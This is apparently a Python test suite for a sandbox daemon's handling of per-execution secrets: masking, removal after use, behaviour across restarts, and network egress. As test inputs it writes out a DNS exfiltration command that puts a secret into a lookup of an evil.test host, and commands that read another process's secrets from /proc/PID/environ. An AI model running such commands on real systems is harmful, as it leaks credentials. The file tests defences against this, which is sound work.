#!/usr/bin/python3 -B
"""Goal: a secret of one execution is in that execution, masked wherever it appears, and gone when the execution ends:
not in the next one, not in a file, not in the store in the clear. What a process of the same user can see of a running
one is measured here, since doc/secrets.md says it.

    test_execution_secrets.py CORDON [name ...]
"""
import json
import os
import re
import secrets as random
import sqlite3
import subprocess

from harness import check, equal, has, run_tests, wait_for
from level import differs

KILLS = True  # one test kills cordond


def value():
    return "x-" + random.token_hex(24)


def put(server, name, text, **more):
    server.want(201, "POST", "/v1/secrets", {"name": name, "value": text, **more})


def drop(server, *names):
    for name in names:
        server.want(204, "DELETE", f"/v1/secrets/{name}")


def sh(server, session, line, **more):
    return server.run(session["id"], line, **more)["stdout"]


def env(name, variable="T"):
    return [{"name": name, "as": "env", "env": variable}]


def test_a_variable_of_one_execution(server):
    text = value()
    put(server, "one", text)
    session = server.create(env={"T": "session"})
    done = server.run(session["id"], "echo $T ${#T}", secrets=env("one"))
    equal(done["stdout"], "*" * len(text) + f" {len(text)}\n", "in it, and masked")
    equal(done["secrets"], [{"name": "one", "as": "env", "env": "T"}])
    equal(server.execution(done)["secrets"], done["secrets"])
    equal(sh(server, session, "echo $T"), "session\n", "the next one")
    equal(sh(server, session, ["echo", text]), "*" * len(text) + "\n", "masked in the session until that ends")
    equal(server.get(session["id"])["secrets"], [], "the session has none")
    equal(sh(server, session, "echo $T", secrets=env("one"), env={"T": "own"}), "own\n")
    other = server.create()
    equal(sh(server, other, ["echo", text]), text + "\n", "another session knows nothing of it")
    server.delete(other["id"])
    server.delete(session["id"])
    drop(server, "one")


def test_a_value_in_a_name_is_covered_in_records(server):
    """cordon-egress knows the value before the command begins, whatever way the command has it."""
    text = "tokzq9f2xlmz7tbkw0arvd4u"  # as a part of a name can be
    server.want(201, "POST", "/v1/secrets", {"name": "looked-up", "value": text, "hosts": ["a.example.org"]})
    for way, place in (({"as": "env", "env": "T"}, "$T"), ({"as": "file"}, "$(cat /run/secrets/looked-up)")):
        s = server.create(network="deny")["id"]
        done = server.run(s, f"getent hosts {place}.evil.test; exit 3", secrets=[{"name": "looked-up", **way}])
        equal(done["exit_code"], 3)
        check(done["denied"], "the name was not refused")
        log = wait_for(lambda: server.want(200, "GET", f"/v1/sessions/{s}/network/log")["records"], 10, "records")
        for what, shown in (("the execution", done), ("the record", log)):
            check(text not in json.dumps(shown), f"{what} shows it, given {way}: {shown}")
        server.delete(s)
    server.want(204, "DELETE", "/v1/secrets/looked-up")


def test_another_secret_comes_inside_a_value(server):
    """Half of a value is written when another execution brings a new secret: the rest is masked."""
    text = value()
    put(server, "half", text)
    put(server, "more", value())
    session = server.create()
    halves = ("import os, sys\nv = os.environ['T'].encode()\nos.write(1, b'<' + v[:20])\nsys.stdin.readline()\n"
              "os.write(1, v[20:] + b'>\\n')\n")
    x = server.spawn(session["id"], ["/usr/bin/python3", "-c", halves], secrets=env("half"), stdin_stream=True)
    where = f"/v1/sessions/{session['id']}/executions/{x['id']}"
    wait_for(lambda: server.want(200, "GET", where + "/output?stream=stdout") == f"<{text[:20]}".encode(), 10, "the first half")
    server.run(session["id"], "true", secrets=env("more"))
    server.request("POST", where + "/input", b"go on\n")
    equal(server.ended(x)["exit_code"], 0)
    equal(server.want(200, "GET", where + "/output?stream=stdout").decode(), f"<{text[:20]}{'*' * len(text[20:])}>\n")
    server.delete(session["id"])
    drop(server, "half", "more")


def test_names_count_once(server):
    """64 different names in a session; the same ones again are no more."""
    names = [f"n{i}" for i in range(65)]
    for name in names:
        put(server, name, value())
    session = server.create()

    def use(some):
        return server.request("POST", f"/v1/sessions/{session['id']}/executions?wait=true",
                              {"command": "true", "secrets": [{"name": n, "as": "env", "env": n} for n in some]})[0]

    for at in range(0, 64, 8):
        equal(use(names[at : at + 8]), 200, f"names from {at}")
    equal((use(names[:8]), use(names[64:])), (200, 429), "known names, and one more")
    server.delete(session["id"])
    drop(server, *names)


def test_over_the_sessions_own(server):
    mine, other = value(), value() + "longer"
    put(server, "mine", mine)
    put(server, "other", other)
    session = server.create(secrets=env("mine"))
    equal(sh(server, session, "echo ${#T}"), f"{len(mine)}\n")
    equal(sh(server, session, "echo ${#T}", secrets=env("other")), f"{len(other)}\n", "its own comes first")
    equal(sh(server, session, "echo ${#T}"), f"{len(mine)}\n")
    server.delete(session["id"])
    drop(server, "mine", "other")


def test_a_file_of_one_execution(server):
    text = value()
    put(server, "key", text)
    session = server.create()
    wish = [{"name": "key", "as": "file", "path": "k", "mode": "0440"}]
    equal(sh(server, session, "stat -L -c '%U %a %s' /run/secrets/k", secrets=wish), f"user 440 {len(text)}\n",
          "it is there before the program starts")
    wait_for(lambda: sh(server, session, "ls /run/secrets") == "", 5, "the end of the file")
    running = server.spawn(session["id"], "cat", stdin_stream=True, secrets=wish)
    server.refused(409, "conflict", "POST", f"/v1/sessions/{session['id']}/executions", {"command": "true", "secrets": wish},
                   "that place")
    server.want(204, "DELETE", f"/v1/sessions/{session['id']}/executions/{running['id']}")
    wait_for(lambda: sh(server, session, "ls /run/secrets") == "", 5, "the end of the file")
    server.delete(session["id"])
    drop(server, "key")


def test_a_file_of_one_that_is_killed_before_its_start(server):
    put(server, "key", value())
    session = server.create()
    for _ in range(10):
        running = server.spawn(session["id"], "sleep 60", secrets=[{"name": "key", "as": "file"}])
        server.want(204, "DELETE", f"/v1/sessions/{session['id']}/executions/{running['id']}")
        equal(server.ended(running)["limit"], "killed")
        wait_for(lambda: sh(server, session, "ls /run/secrets") == "", 5, "the end of the file")
    server.delete(session["id"])
    drop(server, "key")


def test_a_file_that_cannot_be_delivered(server):
    put(server, "key", value())
    session = server.create()
    done = server.run(session["id"], "true", secrets=[{"name": "key", "as": "file", "owner": "no-such-user"}])
    equal(done["state"], "failed")
    has(done["error"]["message"], "no-such-user")
    equal(sh(server, session, "stat -L -c %s /run/secrets/key", secrets=[{"name": "key", "as": "file"}]), "50\n", "another works")
    server.delete(session["id"])
    drop(server, "key")


def test_a_placeholder_of_one_execution(server):
    put(server, "key", value(), hosts=["api.example.org"])
    session = server.create(network={"version": 1, "rules": ["api.example.org"]})
    wish = [{"name": "key", "as": "broker", "env": "K"}]
    first = sh(server, session, "echo $K", secrets=wish).strip()
    check(re.fullmatch(r"cordon_[a-z0-9]{32}", first), first)
    check(sh(server, session, "echo $K", secrets=wish).strip() != first, "the same in two executions")
    equal(sh(server, session, "echo $K"), "\n")
    server.delete(session["id"])
    drop(server, "key")


def test_what_is_refused(server):
    put(server, "bound", value(), ways=["broker"], hosts=["api.example.org"])
    put(server, "free", value())
    session = server.create(secrets=[{"name": "free", "as": "file"}])
    path = f"/v1/sessions/{session['id']}/executions"
    for wish, status, code, word in (
        ({"name": "unknown", "as": "env", "env": "A"}, 404, "not_found", "no such secret 'unknown'"),
        ({"name": "bound", "as": "env", "env": "A"}, 403, "denied", "may not be used as env"),
        ({"name": "free", "as": "broker", "env": "A"}, 400, "invalid", "no host"),
        ({"name": "free", "as": "socket", "program": "/bin/sh"}, 400, "invalid", "not one execution"),
        ({"name": "free", "as": "file"}, 409, "conflict", "that place"),
    ):
        answer = server.request("POST", path, {"command": "true", "secrets": [wish]})
        equal(answer[0], status, str(answer))
        has(answer[2]["error"]["message"], word)
    many = [{"name": "free", "as": "env", "env": f"V{i}"} for i in range(32)]
    server.refused(429, "quota_secrets", "POST", path, {"command": "true", "secrets": many}, "at most 32")
    equal(server.run(session["id"], "echo $V30 | wc -c", secrets=many[:31])["stdout"], "51\n")
    server.delete(session["id"])
    drop(server, "bound", "free")


def test_what_the_same_user_can_see(server):
    """doc/secrets.md: a process of the same user reads the environment of a running execution; others do not, but root can become that user."""
    text = value()
    put(server, "seen", text)
    session = server.create()
    running = server.spawn(session["id"], ["sleep", "60"], secrets=env("seen", "SEEN"))
    pid = wait_for(lambda: server.execution(running)["pid"], 10, "it runs")
    look = f"tr '\\0' '\\n' < /proc/{pid}/environ 2>/dev/null | grep ^SEEN= | wc -c"
    equal(sh(server, session, look), f"{len('SEEN=') + len(text) + 1}\n", "the same user")
    others = f"{len('SEEN=') + len(text) + 1}\n" if differs("/proc/PID") else "0\n"
    equal(sh(server, session, look, user="root"), others, "root of the cell has no such right")
    become = "import os, pwd, sys; u = pwd.getpwnam('user'); os.setgroups([]); os.setgid(u.pw_gid); os.setuid(u.pw_uid); os.execvp('sh', ['sh', '-c', sys.argv[1]])"
    as_user = ["python3", "-c", become, look]
    equal(sh(server, session, as_user, user="root"), f"{len('SEEN=') + len(text) + 1}\n", "but may become that user")
    equal(sh(server, session, look, user="nobody"), others, "another user")
    server.want(204, "DELETE", f"/v1/sessions/{session['id']}/executions/{running['id']}")
    equal(sh(server, session, look), "0\n", "gone")
    server.delete(session["id"])
    drop(server, "seen")


def test_a_restart(server):
    """The next daemon masks it, removes the file of an execution that ended meanwhile, and nothing is stored in the clear."""
    kept, file = value(), value()
    put(server, "kept", kept)
    put(server, "file", file)
    session = server.create()
    sh(server, session, "true", secrets=env("kept"))
    running = server.spawn(session["id"], "read x; echo $T", stdin_stream=True,
                           secrets=env("kept") + [{"name": "file", "as": "file"}])
    wait_for(lambda: server.execution(running)["state"] == "running", 10, "it runs")
    server.kill("cordond")
    server.wait_ready()
    equal(sh(server, session, "stat -L -c %s /run/secrets/file"), f"{len(file)}\n", "the file of the running one")
    server.want(200, "POST", f"/v1/sessions/{session['id']}/executions/{running['id']}/input", b"go\n")
    server.ended(running)
    path = f"/v1/sessions/{session['id']}/executions/{running['id']}/output"
    has(str(server.request("GET", path, raw=True)[2]), "*" * len(kept), "masked")
    wait_for(lambda: sh(server, session, "ls /run/secrets") == "", 5, "the end of the file")
    server.kill("cordond")
    server.wait_ready()
    for text in (kept, file):
        equal(sh(server, session, ["echo", text]), "*" * len(text) + "\n", "masked after both restarts")
    for name in os.listdir(server.state):
        if os.path.isfile(found := os.path.join(server.state, name)):
            with open(found, "rb") as f:
                data = f.read()
            check(kept.encode() not in data and file.encode() not in data, f"in the clear in {name}")
    with sqlite3.connect(f"file:{server.state}/cordon.db?mode=ro", uri=True) as db:
        equal(db.execute("SELECT count(*) FROM execution WHERE secrets <> ''").fetchone()[0] >= 2, True, "recorded by name")
    server.delete(session["id"])
    drop(server, "kept", "file")


def test_a_restart_while_the_session_has_no_cell(server):
    """What an execution wrote is in the files of a session that is paused without memory: the next daemon masks it, too."""
    text = value()
    put(server, "cold", text)
    session = server.create(timeout="1h")
    sh(server, session, "echo $T > ~/kept", secrets=env("cold"))
    server.want(200, "POST", f"/v1/sessions/{session['id']}/pause", {"memory": False})
    server.kill("cordond")
    server.wait_ready()
    equal(sh(server, session, "cat ~/kept"), "*" * len(text) + "\n", "masked by the next daemon")
    server.delete(session["id"])
    drop(server, "cold")


def test_a_rotation_and_a_kill_before_the_start(server):
    old, new = value(), value()
    put(server, "r", old)
    session = server.create()
    running = server.spawn(session["id"], "read x; echo $T", stdin_stream=True, secrets=env("r"))
    server.want(200, "PUT", "/v1/secrets/r", {"value": new})
    server.want(200, "POST", f"/v1/sessions/{session['id']}/executions/{running['id']}/input", b"go\n")
    server.ended(running)
    for text in (old, new):
        equal(sh(server, session, ["echo", text]), "*" * len(text) + "\n", "masked")
    server.want(200, "POST", f"/v1/sessions/{session['id']}/pause")
    server.want(200, "POST", f"/v1/sessions/{session['id']}/resume")
    server.delete(session["id"])
    drop(server, "r")


def test_the_client(server):
    text = value()
    put(server, "cli", text)
    session = server.create()
    variables = {"CORDON_SERVER": server.url, "CORDON_API_KEY": server.key, "HOME": "/nowhere"}
    done = subprocess.run([server.program, "exec", "--secret", "cli=env:T", session["id"], "--", "sh", "-c", "echo ${#T}"],
                          env=variables, capture_output=True, timeout=30)
    equal((done.returncode, done.stdout), (0, f"{len(text)}\n".encode()), str(done))
    server.delete(session["id"])
    drop(server, "cli")


if __name__ == "__main__":
    run_tests(globals(), pool_size=2)
